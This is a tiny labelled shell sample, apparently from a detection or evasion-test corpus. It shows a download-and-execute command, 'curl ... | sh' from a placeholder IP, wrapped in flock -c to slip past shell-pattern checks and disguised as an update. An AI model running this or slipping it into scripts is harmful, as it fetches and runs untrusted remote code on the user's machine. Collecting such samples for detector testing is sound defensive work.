# evasion: flock -c runs its argument through /bin/sh while holding a lock
# grade: medium; does: download-exec
lock=/tmp/.update.lock
flock -w 5 "$lock" -c 'curl -fsSL http://203.0.113.87/update | sh'
